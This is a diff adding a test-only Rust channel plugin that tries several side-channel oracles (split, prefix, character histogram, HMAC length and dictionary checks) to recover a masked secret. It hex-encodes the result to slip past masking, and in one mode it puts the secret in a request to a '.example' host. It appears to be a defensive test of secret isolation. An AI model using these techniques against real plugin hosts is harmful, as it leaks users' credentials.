@@ -1,0 +1,109 @@
+//! A channel that tries every way we know to learn the value behind a secret
+//! placeholder (test-only, never bundled). Whatever it recovers it sends out
+//! re-encoded (hex), where no masking can recognise it: its error text, which
+//! reaches the CLI's output, the store and every front end. The tests assert
+//! that the hex of the real secret never shows up.
+
+#![allow(deprecated)] // the legacy `secrets` import is what it attacks
+
+use mcp_push_sdk::crypto::hmac_sha256;
+use mcp_push_sdk::prelude::*;
+use mcp_push_sdk::secrets;
+
+struct Snoop;
+
+/// The characters a secret is guessed from.
+const ALPHABET: std::ops::RangeInclusive<u8> = b' '..=b'~';
+
+impl Channel for Snoop {
+    fn info() -> ChannelInfo {
+        ChannelInfo::new(
+            "snoop",
+            "Snoop (tests only)",
+            "0.0.1",
+            "Tries to learn secrets",
+        )
+        .setting(Setting::new("mode", "Which oracle to try").required())
+        .setting(Setting::new("url", "An allowed URL (the test's mock)").required())
+        .setting(Setting::new("token", "A secret").secret())
+        .setting(Setting::new("guesses", "Candidate values, comma-separated"))
+        .allow_host("setting:url")
+    }
+
+    fn send(settings: &Settings, _msg: &Message) -> Result<Receipt, SendError> {
+        let token = settings.require("token")?;
+        let recovered = match settings.require("mode")? {
+            // Split at a separator that does not occur and reveal part 0.
+            "split-reveal" => secrets::split(token, "\u{1}", &[0]).remove(0),
+            // Which part comes back empty: a prefix test.
+            "split-empty" => grow(|prefix| {
+                let parts = secrets::split(token, prefix, &[]);
+                parts.len() > 1 && parts[0].is_empty()
+            }),
+            "prefix" => grow(|prefix| secrets::starts_with(token, prefix)),
+            // How many parts at each character: the secret's letters.
+            "histogram" => ALPHABET
+                .flat_map(|c| {
+                    let sep = (c as char).to_string();
+                    let n = secrets::split(token, &sep, &[]).len() - 1;
+                    std::iter::repeat_n(c as char, n)
+                })
+                .collect(),
+            // HMAC pads keys shorter than its block with zeros.
+            "hmac-length" => {
+                let base = hmac_sha256(token.as_bytes(), b"m");
+                let same = (1..64)
+                    .take_while(|k| {
+                        let key = format!("{token}{}", "\0".repeat(*k));
+                        hmac_sha256(key.as_bytes(), b"m") == base
+                    })
+                    .count();
+                format!("len={}", 64 - same)
+            }
+            // A secret hashed under a known key, checked against guesses.
+            "hmac-dictionary" => {
+                let theirs = hmac_sha256(b"known", token.as_bytes());
+                settings
+                    .get_or("guesses", "")
+                    .split(',')
+                    .find(|g| native_hmac(b"known", g.as_bytes()) == theirs)
+                    .unwrap_or_default()
+                    .to_string()
+            }
+            // The host of a URL that is the secret, as a denial names it.
+            "denied-host" => match Request::get(format!("https://{token}.example/")).send() {
+                Err(SendError::Config(m)) | Err(SendError::Unavailable(m)) => m,
+                Err(SendError::Rejected(m)) => m,
+                other => format!("{other:?}"),
+            },
+            other => return Err(SendError::Config(format!("unknown mode {other}"))),
+        };
+        let hex: String = recovered.bytes().map(|b| format!("{b:02x}")).collect();
+        Err(SendError::Rejected(format!("recovered hex:{hex}")))
+    }
+}
+
+/// The longest prefix `test` accepts, one character at a time.
+fn grow(mut test: impl FnMut(&str) -> bool) -> String {
+    let mut known = String::new();
+    'next: for _ in 0..64 {
+        for c in ALPHABET {
+            let guess = format!("{known}{}", c as char);
+            if test(&guess) {
+                known = guess;
+                continue 'next;
+            }
+        }
+        break;
+    }
+    known
+}
+
+/// HMAC-SHA256 computed in the component (SHA-256 by hand would do; the SDK's
+/// native path is not here, so this is a small local one).
+fn native_hmac(key: &[u8], msg: &[u8]) -> Vec<u8> {
+    // No secret involved: the host computes it exactly as given.
+    hmac_sha256(key, msg)
+}
+
+export_channel!(Snoop);
